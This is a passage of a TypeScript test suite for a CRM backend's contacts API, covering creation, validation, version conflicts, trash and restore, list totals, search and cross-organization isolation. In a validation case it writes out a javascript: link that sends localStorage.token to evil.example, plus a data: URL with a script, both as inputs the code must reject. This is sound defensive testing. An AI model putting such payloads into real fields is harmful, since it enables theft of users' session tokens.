import { env } from "cloudflare:test";
import fc from "fast-check";
import { describe, expect, expectTypeOf, it } from "vitest";
import {
  MAX_FILTER_CONDITIONS,
  VIEWER,
  type FilterCondition,
  type RecordListInput,
} from "../../worker/src/schemas/records";
import { expectTRPCError, httpClientFor, newIdentity, ownerOfNewOrganization, rows, seedMember } from "./helpers";
import { encodeCursor } from "../../worker/src/domain/records/list-query";
import {
  allPages,
  clearOfMidnight,
  contactInsert,
  contactSortKeys,
  defineProperty,
  ids,
  setCreatedAt,
  sortedLikeAList,
} from "./records-helpers";

type Caller = Awaited<ReturnType<typeof ownerOfNewOrganization>>["caller"];

const listOf = (caller: Caller) => (input: RecordListInput) => caller.contacts.list(input);
const namesOf = (items: { firstName: string }[]) => items.map((c) => c.firstName);

/** Four contacts with known titles, scores, statuses, tags and creation dates. */
async function fourContacts() {
  const owner = await ownerOfNewOrganization();
  const { caller } = owner;
  const ann = await caller.contacts.create({
    firstName: "Ann",
    lastName: "Lee",
    emails: ["ann@example.com"],
    title: "CEO",
    leadScore: 10,
    tags: ["vip"],
  });
  const bob = await caller.contacts.create({
    firstName: "Bob",
    lastName: "Stone",
    emails: ["bob@widgets.io"],
    leadScore: 50,
    leadStatus: "qualified",
    tags: ["vip", "beta"],
  });
  const cy = await caller.contacts.create({
    firstName: "Cy",
    lastName: "Young",
    emails: ["cy@example.com"],
    title: "Engineer",
    leadScore: 90,
    leadStatus: "customer",
  });
  const di = await caller.contacts.create({
    firstName: "Di",
    lastName: "Park",
    title: "Chief Engineer",
    tags: ["beta"],
  });
  await setCreatedAt("contacts", ann.id, "2024-01-01T00:00:00Z");
  await setCreatedAt("contacts", bob.id, "2024-06-01T00:00:00Z");
  await setCreatedAt("contacts", cy.id, "2025-01-01T00:00:00Z");
  await setCreatedAt("contacts", di.id, "2025-06-01T00:00:00Z");
  return { ...owner, ann, bob, cy, di };
}

describe("contacts.create", () => {
  it("stores a normalised contact at version 1 and a 'created' activity", async () => {
    const { caller, org, identity } = await ownerOfNewOrganization();
    const created = await caller.contacts.create({
      firstName: " Ann ",
      lastName: "Lee",
      emails: [" ANN@Example.COM "],
      phones: ["+33 1 23 45 67 89"],
      title: "CEO",
      linkedinUrl: "https://linkedin.com/in/ann",
    });
    expect(created).toMatchObject({
      id: expect.stringMatching(/^con_[0-9a-z]{16}$/),
      organizationId: org.id,
      firstName: "Ann",
      lastName: "Lee",
      sortName: "ann lee",
      emails: ["ann@example.com"],
      primaryEmail: "ann@example.com",
      phones: ["+33 1 23 45 67 89"],
      title: "CEO",
      leadStatus: "new",
      leadScore: 0,
      tags: [],
      properties: {},
      version: 1,
      deletedAt: null,
      createdBy: identity.uid,
    });
    const { contact, company, timeline } = await caller.contacts.get({ id: created.id });
    expect(contact).toEqual(created);
    expect(company).toBeNull();
    expect(timeline).toMatchObject([
      { kind: "created", actorId: identity.uid, recordObject: "contact", changes: null },
    ]);
  });

  it("links a company of the organization and shows it in get()", async () => {
    const { caller } = await ownerOfNewOrganization();
    const acme = await caller.companies.create({ name: "Acme", domain: "acme.com" });
    const created = await caller.contacts.create({ firstName: "Ann", companyId: acme.id });
    expect((await caller.contacts.get({ id: created.id })).company).toEqual({
      id: acme.id,
      name: "Acme",
      domain: "acme.com",
    });
  });

  it("stores a LinkedIn address given without its scheme as https, and one with it as written", async () => {
    const { caller } = await ownerOfNewOrganization();
    const pasted = await caller.contacts.create({ firstName: "Ann", linkedinUrl: " linkedin.com/in/ann-lee " });
    expect(pasted.linkedinUrl).toBe("https://linkedin.com/in/ann-lee");
    const full = await caller.contacts.update({
      id: pasted.id,
      version: 1,
      patch: { linkedinUrl: "http://www.linkedin.com/in/ann-lee/" },
    });
    expect(full.linkedinUrl).toBe("http://www.linkedin.com/in/ann-lee/");
  });

  it("stores a phone number with its extension, as written", async () => {
    const { caller } = await ownerOfNewOrganization();
    const created = await caller.contacts.create({
      firstName: "Ann",
      phones: ["+1 (512) 555-0199 ext. 12", "020 7946 0958 x3"],
    });
    expect(created.phones).toEqual(["+1 (512) 555-0199 ext. 12", "020 7946 0958 x3"]);
  });

  it("stores blank optional text as null", async () => {
    const { caller } = await ownerOfNewOrganization();
    const created = await caller.contacts.create({ firstName: "Ann", title: "   ", source: "" });
    expect(created).toMatchObject({ title: null, source: null });
  });

  it.each([
    ["a bad email", { firstName: "Ann", emails: ["ann@"] }, "emails", "Enter a valid email address."],
    [
      "a bad URL",
      { firstName: "Ann", linkedinUrl: "linkedin ann" },
      "linkedinUrl",
      "Enter a web address, like https://example.com",
    ],
    [
      "a link that would run script",
      { firstName: "Ann", linkedinUrl: "javascript:fetch('//evil.example/'+localStorage.token)" },
      "linkedinUrl",
      "Enter a web address, like https://example.com",
    ],
    [
      "a link to a document of its own",
      { firstName: "Ann", linkedinUrl: "data:text/html,<script>alert(1)</script>" },
      "linkedinUrl",
      "Enter a web address, like https://example.com",
    ],
    [
      "a bad phone",
      { firstName: "Ann", phones: ["call me maybe"] },
      "phones",
      "Enter a phone number with digits, spaces or + ( ) . -",
    ],
    [
      "a phone without a digit",
      { firstName: "Ann", phones: ["(---)"] },
      "phones",
      "Enter a phone number with digits, spaces or + ( ) . -",
    ],
    ["an empty contact", { title: "CEO" }, "firstName", "Give the contact a name or an email address."],
  ])("is BAD_REQUEST for %s, naming the field and storing nothing", async (_case, input, field, message) => {
    const { identity, org } = await ownerOfNewOrganization();
    const client = await httpClientFor(identity);
    const error = await expectTRPCError(client.contacts.create.mutate(input), "BAD_REQUEST", message);
    expect(
      (error as { data?: { zodError?: { fieldErrors: Record<string, unknown> } } }).data?.zodError?.fieldErrors,
    ).toHaveProperty(field);
    expect(await rows("SELECT id FROM contacts WHERE organization_id = ?", org.id)).toEqual([]);
  });

  it("is BAD_REQUEST for an unknown custom property", async () => {
    const { caller, org } = await ownerOfNewOrganization();
    await expectTRPCError(
      caller.contacts.create({ firstName: "Ann", properties: { shoe_size: 42 } }),
      "BAD_REQUEST",
      'There is no property "shoe_size" on contacts.',
    );
    expect(await rows("SELECT id FROM contacts WHERE organization_id = ?", org.id)).toEqual([]);
  });

  it("is BAD_REQUEST for a select value that is not one of the options, and stores a valid one", async () => {
    const { caller, org } = await ownerOfNewOrganization();
    await defineProperty(org.id, "contact", {
      key: "tier",
      label: "Tier",
      type: "select",
      options: ["gold", "silver"],
    });
    await expectTRPCError(
      caller.contacts.create({ firstName: "Ann", properties: { tier: "bronze" } }),
      "BAD_REQUEST",
      "Tier must be one of: gold, silver.",
    );
    const created = await caller.contacts.create({ firstName: "Ann", properties: { tier: "gold" } });
    expect(created.properties).toEqual({ tier: "gold" });
  });

  it("is BAD_REQUEST when a required custom property is missing", async () => {
    const { caller, org } = await ownerOfNewOrganization();
    await defineProperty(org.id, "contact", { key: "region", label: "Region", type: "text", required: true });
    await expectTRPCError(caller.contacts.create({ firstName: "Ann" }), "BAD_REQUEST", "Region must be filled in.");
  });

  it("is CONFLICT naming the holder for an email another contact has, compared normalised", async () => {
    const { caller, org } = await ownerOfNewOrganization();
    const ann = await caller.contacts.create({ firstName: "Ann", lastName: "Lee", emails: ["ann@x.com"] });
    const error = await expectTRPCError(
      caller.contacts.create({ firstName: "Impostor", emails: ["ANN@X.COM"] }),
      "CONFLICT",
      "ann@x.com already belongs to Ann Lee.",
    );
    expect(error.cause).toMatchObject({ holderId: ann.id });
    expect(await rows("SELECT id FROM contacts WHERE organization_id = ?", org.id)).toEqual([{ id: ann.id }]);
  });

  it("is CONFLICT naming the holder for every create but one of the same email at once, never a server error", async () => {
    const { caller, org } = await ownerOfNewOrganization();
    const results = await Promise.allSettled(
      ["Ann", "Bea", "Cy", "Di"].map((firstName) => caller.contacts.create({ firstName, emails: ["same@x.com"] })),
    );
    const created = results.filter((r) => r.status === "fulfilled");
    expect(created).toHaveLength(1);
    const holder = (created[0] as PromiseFulfilledResult<{ id: string; firstName: string }>).value;
    for (const result of results.filter((r) => r.status === "rejected"))
      expect((result as PromiseRejectedResult).reason).toMatchObject({
        code: "CONFLICT",
        message: `same@x.com already belongs to ${holder.firstName}.`,
      });
    expect(await rows("SELECT id FROM contacts WHERE organization_id = ?", org.id)).toEqual([{ id: holder.id }]);
  });

  it("names a holder without a name as another contact", async () => {
    const { caller } = await ownerOfNewOrganization();
    await caller.contacts.create({ emails: ["nameless@x.com"] });
    await expectTRPCError(
      caller.contacts.create({ firstName: "Second", emails: ["nameless@x.com"] }),
      "CONFLICT",
      "nameless@x.com already belongs to another contact.",
    );
  });

  it("lets another organization use the same email", async () => {
    const a = await ownerOfNewOrganization("Org A");
    const b = await ownerOfNewOrganization("Org B");
    await a.caller.contacts.create({ firstName: "Ann", emails: ["ann@x.com"] });
    await expect(b.caller.contacts.create({ firstName: "Ann", emails: ["ann@x.com"] })).resolves.toMatchObject({
      primaryEmail: "ann@x.com",
    });
  });

  it("frees a deleted contact's email, and restoring it while another holds the email is CONFLICT", async () => {
    const { caller } = await ownerOfNewOrganization();
    const first = await caller.contacts.create({ firstName: "Ann", lastName: "Old", emails: ["ann@x.com"] });
    await caller.contacts.delete({ ids: [first.id] });
    const second = await caller.contacts.create({ firstName: "Ann", lastName: "New", emails: ["ann@x.com"] });
    await expectTRPCError(
      caller.contacts.restore({ id: first.id }),
      "CONFLICT",
      "ann@x.com already belongs to Ann New.",
    );
    await expectTRPCError(caller.contacts.get({ id: first.id }), "NOT_FOUND");
    await caller.contacts.delete({ ids: [second.id] });
    await expect(caller.contacts.restore({ id: first.id })).resolves.toMatchObject({ id: first.id, deletedAt: null });
  });
});

describe("contacts.get companyNames", () => {
  it("names every company the timeline's company changes mention, a deleted one too; none without such changes", async () => {
    const { caller } = await ownerOfNewOrganization();
    const acme = await caller.companies.create({ name: "Acme" });
    const globex = await caller.companies.create({ name: "Globex" });
    const ann = await caller.contacts.create({ firstName: "Ann" });
    expect((await caller.contacts.get({ id: ann.id })).companyNames).toEqual({});
    const atAcme = await caller.contacts.update({ id: ann.id, version: ann.version, patch: { companyId: acme.id } });
    await caller.contacts.update({ id: ann.id, version: atAcme.version, patch: { companyId: globex.id } });
    await caller.companies.delete({ ids: [acme.id] });
    const details = await caller.contacts.get({ id: ann.id });
    expect(details.companyNames).toEqual({ [acme.id]: "Acme", [globex.id]: "Globex" });
    expect(details.timeline[0].changes).toEqual({ companyId: [acme.id, globex.id] });
  });

  it("never names another organization's company, even when a timeline holds its id", async () => {
    const a = await ownerOfNewOrganization();
    const b = await ownerOfNewOrganization();
    const secret = await a.caller.companies.create({ name: "A's secret account" });
    const mine = await b.caller.companies.create({ name: "Mine" });
    const bob = await b.caller.contacts.create({ firstName: "Bob", companyId: mine.id });
    // A forged activity in B's organization naming A's company id.
    await env.DB.prepare(
      `INSERT INTO activities (id, organization_id, record_object, record_id, kind, changes, actor_id, created_at)
       SELECT 'act_forged01', organization_id, 'contact', id, 'updated', ?, created_by, ? FROM contacts WHERE id = ?`,
    )
      .bind(JSON.stringify({ companyId: [secret.id, mine.id] }), Date.now() + 1000, bob.id)
      .run();
    const details = await b.caller.contacts.get({ id: bob.id });
    expect(details.timeline[0].changes).toEqual({ companyId: [secret.id, mine.id] });
    expect(details.companyNames).toEqual({ [mine.id]: "Mine" });
  });
});

describe("a record's tags and emails", () => {
  it("hold each tag once however capitalised (its first spelling) and each email once, on create and update", async () => {
    const { caller } = await ownerOfNewOrganization();
    const ann = await caller.contacts.create({
      firstName: "Ann",
      emails: ["ann@acme.test", " ANN@acme.test", "ann@home.test"],
      tags: ["VIP", "vip", "Beta", " Vip "],
    });
    expect(ann).toMatchObject({ emails: ["ann@acme.test", "ann@home.test"], tags: ["VIP", "Beta"] });
    const updated = await caller.contacts.update({
      id: ann.id,
      version: ann.version,
      patch: { tags: ["beta", "BETA", "new"], emails: ["b@acme.test", "B@ACME.TEST"] },
    });
    expect(updated).toMatchObject({ emails: ["b@acme.test"], tags: ["beta", "new"] });
    // The organization's tag keeps the spelling it was first given.
    expect(await caller.tags.list({ object: "contact" })).toEqual([
      { name: "Beta", count: 1 },
      { name: "new", count: 1 },
    ]);
    const acme = await caller.companies.create({ name: "Acme", tags: ["Partner", "PARTNER"] });
    expect(acme.tags).toEqual(["Partner"]);
    // Removing one spelling removes the tag, as bulk untagging does.
    await caller.contacts.bulkUpdate({ ids: [ann.id], action: { type: "removeTag", tag: "NEW" } });
    expect((await caller.contacts.get({ id: ann.id })).contact.tags).toEqual(["beta"]);
  });
});

describe("contacts.update", () => {
  it("changes only the patched fields, bumps the version and records the changes", async () => {
    const { caller, identity } = await ownerOfNewOrganization();
    const ann = await caller.contacts.create({
      firstName: "Ann",
      lastName: "Lee",
      emails: ["ann@x.com"],
      phones: ["+44 20 7946 0000"],
      leadStatus: "qualified",
      leadScore: 40,
      tags: ["vip"],
    });
    const updated = await caller.contacts.update({ id: ann.id, version: 1, patch: { leadScore: 55, title: "CTO" } });
    expect(updated).toEqual({ ...ann, leadScore: 55, title: "CTO", version: 2, updatedAt: expect.any(Date) });
    const { timeline } = await caller.contacts.get({ id: ann.id });
    expect(timeline.map((a) => a.kind)).toEqual(["updated", "created"]);
    expect(timeline[0]).toMatchObject({
      actorId: identity.uid,
      changes: { leadScore: [40, 55], title: [null, "CTO"] },
    });
  });

  it("recomputes the sort name and primary email, and records the name change", async () => {
    const { caller } = await ownerOfNewOrganization();
    const ann = await caller.contacts.create({ firstName: "Ann", lastName: "Lee", emails: ["ann@x.com"] });
    const updated = await caller.contacts.update({
      id: ann.id,
      version: 1,
      patch: { lastName: "Smith", emails: ["A.Smith@X.com", "ann@x.com"] },
    });
    expect(updated).toMatchObject({ sortName: "ann smith", primaryEmail: "a.smith@x.com" });
    const [entry] = (await caller.contacts.get({ id: ann.id })).timeline;
    expect(entry.changes).toEqual({
      lastName: ["Lee", "Smith"],
      emails: [["ann@x.com"], ["a.smith@x.com", "ann@x.com"]],
    });
  });

  it("returns the contact unchanged, without an activity, when nothing changes", async () => {
    const { caller } = await ownerOfNewOrganization();
    const ann = await caller.contacts.create({ firstName: "Ann", leadScore: 3 });
    expect(await caller.contacts.update({ id: ann.id, version: 1, patch: { leadScore: 3, title: undefined } })).toEqual(
      ann,
    );
    expect((await caller.contacts.get({ id: ann.id })).timeline.map((a) => a.kind)).toEqual(["created"]);
  });

  it("is CONFLICT on a stale version, naming who changed the contact, and keeps their change", async () => {
    const { caller, org, identity } = await ownerOfNewOrganization();
    const mia = await seedMember(org.id, "member", { ...newIdentity("mia"), name: "Mia Rossi" });
    const ann = await caller.contacts.create({ firstName: "Ann" });
    await mia.caller.contacts.update({ id: ann.id, version: 1, patch: { title: "CFO" } });
    await expectTRPCError(
      caller.contacts.update({ id: ann.id, version: 1, patch: { title: "CEO" } }),
      "CONFLICT",
      /^This record was changed by Mia Rossi at \d{4}-\d{2}-\d{2} \d{2}:\d{2} UTC\. Reload to see their change\.$/,
    );
    const { contact, timeline } = await caller.contacts.get({ id: ann.id });
    expect(contact).toMatchObject({ title: "CFO", version: 2 });
    expect(timeline.map((a) => a.kind)).toEqual(["updated", "created"]);
    // Over HTTP the error's data says who and when, for the web to word in the person's time zone.
    const client = await httpClientFor(identity);
    const error = await expectTRPCError(
      client.contacts.update.mutate({ id: ann.id, version: 1, patch: { title: "CEO" } }),
      "CONFLICT",
    );
    expect((error as { data?: { change?: unknown } }).data?.change).toEqual({
      noun: "record",
      by: "Mia Rossi",
      at: timeline[0].createdAt.toISOString(),
    });
  });

  it("is CONFLICT when the same caller updates twice with the same version", async () => {
    const { caller } = await ownerOfNewOrganization();
    const ann = await caller.contacts.create({ firstName: "Ann" });
    await caller.contacts.update({ id: ann.id, version: 1, patch: { leadScore: 1 } });
    await expectTRPCError(
      caller.contacts.update({ id: ann.id, version: 1, patch: { leadScore: 2 } }),
      "CONFLICT",
      /changed by owner \d+ at/,
    );
  });

  it("is CONFLICT naming the holder when the new email belongs to another contact", async () => {
    const { caller } = await ownerOfNewOrganization();
    await caller.contacts.create({ firstName: "Bob", lastName: "Stone", emails: ["bob@x.com"] });
    const ann = await caller.contacts.create({ firstName: "Ann", emails: ["ann@x.com"] });
    await expectTRPCError(
      caller.contacts.update({ id: ann.id, version: 1, patch: { emails: ["BOB@x.com"] } }),
      "CONFLICT",
      "bob@x.com already belongs to Bob Stone.",
    );
    // Its own email is not a clash.
    await expect(
      caller.contacts.update({ id: ann.id, version: 1, patch: { emails: ["ANN@x.com", "ann@home.org"] } }),
    ).resolves.toMatchObject({ primaryEmail: "ann@x.com", version: 2 });
  });

  it("is BAD_REQUEST when the patch would leave the contact without a name or email", async () => {
    const { caller } = await ownerOfNewOrganization();
    const ann = await caller.contacts.create({ firstName: "Ann", emails: ["ann@x.com"] });
    await expectTRPCError(
      caller.contacts.update({ id: ann.id, version: 1, patch: { firstName: "", emails: [] } }),
      "BAD_REQUEST",
      "Give the contact a name or an email address.",
    );
  });

  it("validates and merges custom property values", async () => {
    const { caller, org } = await ownerOfNewOrganization();
    await defineProperty(org.id, "contact", {
      key: "tier",
      label: "Tier",
      type: "select",
      options: ["gold", "silver"],
    });
    await defineProperty(org.id, "contact", { key: "seats", label: "Seats", type: "number" });
    const ann = await caller.contacts.create({ firstName: "Ann", properties: { tier: "gold" } });
    await expectTRPCError(
      caller.contacts.update({ id: ann.id, version: 1, patch: { properties: { tier: "bronze" } } }),
      "BAD_REQUEST",
      "Tier must be one of: gold, silver.",
    );
    await expectTRPCError(
      caller.contacts.update({ id: ann.id, version: 1, patch: { properties: { color: "red" } } }),
      "BAD_REQUEST",
      'There is no property "color" on contacts.',
    );
    const updated = await caller.contacts.update({ id: ann.id, version: 1, patch: { properties: { seats: 12 } } });
    expect(updated.properties).toEqual({ tier: "gold", seats: 12 });
  });

  it("is NOT_FOUND for a deleted contact", async () => {
    const { caller } = await ownerOfNewOrganization();
    const ann = await caller.contacts.create({ firstName: "Ann" });
    await caller.contacts.delete({ ids: [ann.id] });
    await expectTRPCError(
      caller.contacts.update({ id: ann.id, version: 1, patch: { title: "CEO" } }),
      "NOT_FOUND",
      "That contact does not exist or was deleted.",
    );
  });
});

describe("contacts.delete and contacts.restore", () => {
  it("moves many contacts to the trash with an activity each, and restores one as a new version", async () => {
    const { caller, identity } = await ownerOfNewOrganization();
    const [ann, bob, cy] = [
      await caller.contacts.create({ firstName: "Ann" }),
      await caller.contacts.create({ firstName: "Bob" }),
      await caller.contacts.create({ firstName: "Cy" }),
    ];
    expect(await caller.contacts.delete({ ids: [ann.id, bob.id, "con_doesnotexist0000"] })).toEqual({ deleted: 2 });
    expect(ids((await caller.contacts.list({})).items)).toEqual([cy.id]);
    expect(namesOf((await caller.contacts.list({ trash: true })).items)).toEqual(["Ann", "Bob"]);
    await expectTRPCError(caller.contacts.get({ id: ann.id }), "NOT_FOUND");
    // Already in the trash: nothing left to delete.
    await expectTRPCError(caller.contacts.delete({ ids: [ann.id, bob.id] }), "NOT_FOUND");

    const restored = await caller.contacts.restore({ id: ann.id });
    expect(restored).toMatchObject({ id: ann.id, deletedAt: null, version: 2 });
    const { timeline } = await caller.contacts.get({ id: ann.id });
    expect(timeline.map((a) => [a.kind, a.actorId])).toEqual([
      ["restored", identity.uid],
      ["deleted", identity.uid],
      ["created", identity.uid],
    ]);
    await expectTRPCError(
      caller.contacts.restore({ id: ann.id }),
      "NOT_FOUND",
      "That contact does not exist or was deleted.",
    );
  });

  it("restores many at once, each a new version with its activity; one whose email is taken stays in the trash, refused with why", async () => {
    const { caller, identity } = await ownerOfNewOrganization();
    const acme = await caller.companies.create({ name: "Acme" });
    const ann = await caller.contacts.create({ firstName: "Ann", emails: ["ann@acme.com"] });
    const bob = await caller.contacts.create({ firstName: "Bob", emails: ["bob@acme.com"], companyId: acme.id });
    const cy = await caller.contacts.create({ firstName: "Cy" });
    const dee = await caller.contacts.create({ firstName: "Dee", emails: ["desk@acme.com"] });
    await caller.contacts.delete({ ids: [dee.id] });
    // A second contact with Dee's address, trashed too: of the two, the first asked for comes back.
    const dan = await caller.contacts.create({ firstName: "Dan", emails: ["Desk@Acme.com"] });
    await caller.contacts.delete({ ids: [ann.id, bob.id, cy.id, dan.id] });
    // Ann's address went to a new live contact meanwhile.
    await caller.contacts.create({ firstName: "Anna", lastName: "New", emails: ["ann@acme.com"] });
    expect((await caller.contacts.list({})).total).toEqual({ count: 1, exact: true });

    const result = await caller.contacts.restoreMany({
      ids: [ann.id, bob.id, cy.id, dan.id, dee.id, "con_doesnotexist0000"],
    });
    expect(result).toEqual({
      restored: 3,
      refused: [
        { id: ann.id, message: "ann@acme.com already belongs to Anna New." },
        { id: dee.id, message: "desk@acme.com already belongs to Dan." },
      ],
    });
    expect(namesOf((await caller.contacts.list({})).items).sort()).toEqual(["Anna", "Bob", "Cy", "Dan"]);
    expect((await caller.contacts.list({})).total).toEqual({ count: 4, exact: true });
    expect(namesOf((await caller.contacts.list({ trash: true })).items).sort()).toEqual(["Ann", "Dee"]);
    const { contact, timeline } = await caller.contacts.get({ id: bob.id });
    expect(contact).toMatchObject({ deletedAt: null, version: 2, companyName: "Acme" });
    expect(timeline.map((a) => [a.kind, a.actorId])).toEqual([
      ["restored", identity.uid],
      ["deleted", identity.uid],
      ["created", identity.uid],
    ]);
    await expectTRPCError(caller.contacts.get({ id: ann.id }), "NOT_FOUND");
    // Nothing of these left in the trash to restore.
    await expectTRPCError(
      caller.contacts.restoreMany({ ids: [bob.id, cy.id] }),
      "NOT_FOUND",
      "That contact does not exist or was deleted.",
    );
    await expectTRPCError(caller.contacts.restoreMany({ ids: [] }), "BAD_REQUEST");
    await expectTRPCError(
      caller.contacts.restoreMany({ ids: Array.from({ length: 201 }, (_, i) => `con_${String(i).padStart(16, "0")}`) }),
      "BAD_REQUEST",
    );
  });

  it("lists the trash by deletion time, newest first, page by page, and only the caller's own", async () => {
    const { caller } = await ownerOfNewOrganization();
    const other = await ownerOfNewOrganization();
    const made = [];
    for (const name of ["Ann", "Bob", "Cy", "Di"]) made.push(await caller.contacts.create({ firstName: name }));
    const stranger = await other.caller.contacts.create({ firstName: "Eve" });
    await other.caller.contacts.delete({ ids: [stranger.id] });
    // Bob, then Di, then Ann and Cy together (one bulk delete: the same time, then by id).
    for (const batch of [[made[1]], [made[3]], [made[0], made[2]]]) {
      await new Promise((resolve) => setTimeout(resolve, 5));
      await caller.contacts.delete({ ids: ids(batch) });
    }
    const sort = { field: "deletedAt", direction: "desc" } as const;
    const together = ids([made[0], made[2]]).sort().reverse();
    const expected = [...together, made[3].id, made[1].id];
    const seen: string[] = [];
    let cursor: string | undefined;
    do {
      const page = await caller.contacts.list({ trash: true, sort, limit: 1, cursor });
      seen.push(...ids(page.items));
      cursor = page.nextCursor ?? undefined;
    } while (cursor && seen.length < 10);
    expect(seen).toEqual(expected);
    const oldestFirst = await caller.contacts.list({ trash: true, sort: { ...sort, direction: "asc" } });
    expect(ids(oldestFirst.items)).toEqual([...expected].reverse());
    expect(oldestFirst.items.every((c) => c.deletedAt instanceof Date)).toBe(true);
    expect(ids((await other.caller.contacts.list({ trash: true, sort })).items)).toEqual([stranger.id]);
  });

  it("deletes and restores more ids at once than D1 binds parameters (150)", async () => {
    const { caller } = await ownerOfNewOrganization();
    const created = await Promise.all(
      Array.from({ length: 150 }, (_, i) =>
        caller.contacts.create({ firstName: `P${i}`, emails: [`p${i}@example.com`] }),
      ),
    );
    expect((await caller.contacts.list({ limit: 1 })).total).toEqual({ count: 150, exact: true });
    expect(await caller.contacts.delete({ ids: ids(created) })).toEqual({ deleted: 150 });
    expect(await caller.contacts.list({})).toMatchObject({ items: [], total: { count: 0, exact: true } });
    expect(await caller.contacts.restoreMany({ ids: ids(created) })).toEqual({ restored: 150, refused: [] });
    expect((await caller.contacts.list({ limit: 1 })).total).toEqual({ count: 150, exact: true });
    // Each with its own "deleted" and "restored" entry, newest first, however many went at once.
    const timelines = await rows<{ record_id: string; kinds: string }>(
      `SELECT record_id, group_concat(kind, ',') AS kinds
       FROM (SELECT record_id, kind FROM activities WHERE record_id IN (SELECT value FROM json_each(?)) ORDER BY rowid)
       GROUP BY record_id`,
      JSON.stringify(ids(created)),
    );
    expect(timelines).toHaveLength(150);
    expect(new Set(timelines.map((t) => t.kinds))).toEqual(new Set(["created,deleted,restored"]));
    expect((await caller.contacts.get({ id: created[0]!.id })).timeline.map((a) => a.kind)).toEqual([
      "restored",
      "deleted",
      "created",
    ]);
  });
});

describe("contacts.list totals", () => {
  it("is {count, exact} on the first page, null on later ones, and follows creates, deletes and restores", async () => {
    const { caller } = await ownerOfNewOrganization();
    expect((await caller.contacts.list({})).total).toEqual({ count: 0, exact: true });
    const made = [];
    for (const name of ["Ann", "Bob", "Cy", "Di", "Ed"]) made.push(await caller.contacts.create({ firstName: name }));
    const first = await caller.contacts.list({ limit: 2 });
    expect(first.total).toEqual({ count: 5, exact: true });
    expect((await caller.contacts.list({ limit: 2, cursor: first.nextCursor! })).total).toBeNull();

    await caller.contacts.delete({ ids: [made[0].id, made[1].id] });
    expect((await caller.contacts.list({})).total).toEqual({ count: 3, exact: true });
    expect((await caller.contacts.list({ trash: true })).total).toEqual({ count: 2, exact: true });
    await caller.contacts.restore({ id: made[0].id });
    expect((await caller.contacts.list({})).total).toEqual({ count: 4, exact: true });
    // A repeated delete must not move the count.
    await expectTRPCError(caller.contacts.delete({ ids: [made[1].id] }), "NOT_FOUND");
    expect((await caller.contacts.list({})).total).toEqual({ count: 4, exact: true });
    // Filtered totals count the matching rows.
    const filtered = await caller.contacts.list({
      filter: { combinator: "or", conditions: [{ field: "firstName", operator: "in", value: ["ann", "cy", "bob"] }] },
    });
    expect(filtered.total).toEqual({ count: 2, exact: true });
  });
});

describe("contacts.list search", () => {
  it("finds by first name prefix, last name, email part and title", async () => {
    const { caller } = await fourContacts();
    const search = async (text: string) => namesOf((await caller.contacts.list({ search: text })).items);
    expect(await search("an")).toEqual(["Ann"]);
    expect(await search("BO")).toEqual(["Bob"]);
    expect(await search("stone")).toEqual(["Bob"]);
    expect(await search("widgets")).toEqual(["Bob"]);
    // No name starts with these: every match, newest first.
    expect(await search("example.com")).toEqual(["Cy", "Ann"]);
    expect(await search("engineer")).toEqual(["Di", "Cy"]);
    expect(await search("chief eng")).toEqual(["Di"]);
    expect(await search("nobody")).toEqual([]);
    expect((await caller.contacts.list({ search: "engineer" })).total).toEqual({ count: 2, exact: true });
  });

  it("keeps a chosen sort: every match in that order", async () => {
    const { caller } = await fourContacts();
    const sortedSearch = async (text: string, direction: "asc" | "desc") =>
      namesOf((await caller.contacts.list({ search: text, sort: { field: "name", direction } })).items);
    expect(await sortedSearch("example.com", "asc")).toEqual(["Ann", "Cy"]);
    expect(await sortedSearch("engineer", "desc")).toEqual(["Di", "Cy"]);
  });

  it("refuses a page link from another order", async () => {
    const { caller } = await fourContacts();
    const byName = await caller.contacts.list({ limit: 1 });
    await expectTRPCError(
      caller.contacts.list({ search: "example", limit: 1, cursor: byName.nextCursor! }),
      "BAD_REQUEST",
      "That page link is no longer valid. Reload the list.",
    );
  });

  it("refuses a search's page link on a sorted page, and an edited one on any page, as BAD_REQUEST", async () => {
    const { caller, org } = await fourContacts();
    await defineProperty(org.id, "contact", { key: "tier", label: "Tier", type: "text" });
    const searched = await caller.contacts.list({ search: "example", limit: 1 });
    // A best-match cursor's value is a position ([part, name or seq]); a sort's is a column's value.
    const positions = [JSON.parse(atob(searched.nextCursor!.replace(/-/g, "+").replace(/_/g, "/"))).v, [1, 5]];
    const sortedPages: RecordListInput[] = [
      {},
      { sort: { field: "title", direction: "desc" } }, // nullable: the keyset's other shape
      { sort: { field: "leadScore", direction: "asc" } },
      { sort: { field: "prop:tier", direction: "asc" } }, // read through the property values
      { filter: { combinator: "and", conditions: [{ field: "tags", operator: "contains", value: "vip" }] } },
    ];
    for (const input of sortedPages)
      for (const v of [...positions, { name: "Ann" }, true])
        await expectTRPCError(
          caller.contacts.list({ ...input, cursor: encodeCursor({ v, id: "con_x" }) }),
          "BAD_REQUEST",
          "That page link is no longer valid. Reload the list.",
        );
    for (const v of ["ann", 3, null, [2, 1], [0, 7]])
      await expectTRPCError(
        caller.contacts.list({ search: "example", cursor: encodeCursor({ v, id: "con_x" }) }),
        "BAD_REQUEST",
        "That page link is no longer valid. Reload the list.",
      );
    // A value of the right kind is a place in the order, even one no record holds.
    expect(namesOf((await caller.contacts.list({ cursor: encodeCursor({ v: "bz", id: "con_x" }) })).items)).toEqual([
      "Cy",
      "Di",
    ]);
  });

  it("does not return another organization's contacts nor deleted ones", async () => {
    const a = await ownerOfNewOrganization("Org A");
    const b = await ownerOfNewOrganization("Org B");
    const annA = await a.caller.contacts.create({ firstName: "Annika", emails: ["annika@a.com"] });
    await b.caller.contacts.create({ firstName: "Annette", emails: ["annette@b.com"] });
    const gone = await a.caller.contacts.create({ firstName: "Annabel" });
    await a.caller.contacts.delete({ ids: [gone.id] });
    expect(ids((await a.caller.contacts.list({ search: "ann" })).items)).toEqual([annA.id]);
    expect(namesOf((await b.caller.contacts.list({ search: "ann" })).items)).toEqual(["Annette"]);
    expect(namesOf((await a.caller.contacts.list({ search: "ann", trash: true })).items)).toEqual(["Annabel"]);
  });

  it("finds a contact created after the migrations ran, and follows renames", async () => {
    const { caller } = await ownerOfNewOrganization();
    const zed = await caller.contacts.create({ firstName: "Zebulon", lastName: "Quill", title: "Navigator" });
    expect(ids((await caller.contacts.list({ search: "zebu" })).items)).toEqual([zed.id]);
    await caller.contacts.update({ id: zed.id, version: 1, patch: { firstName: "Xavier" } });
    expect((await caller.contacts.list({ search: "zebu" })).items).toEqual([]);
    expect(ids((await caller.contacts.list({ search: "xav quill" })).items)).toEqual([zed.id]);
  });

  it("matches accented names without the accents", async () => {
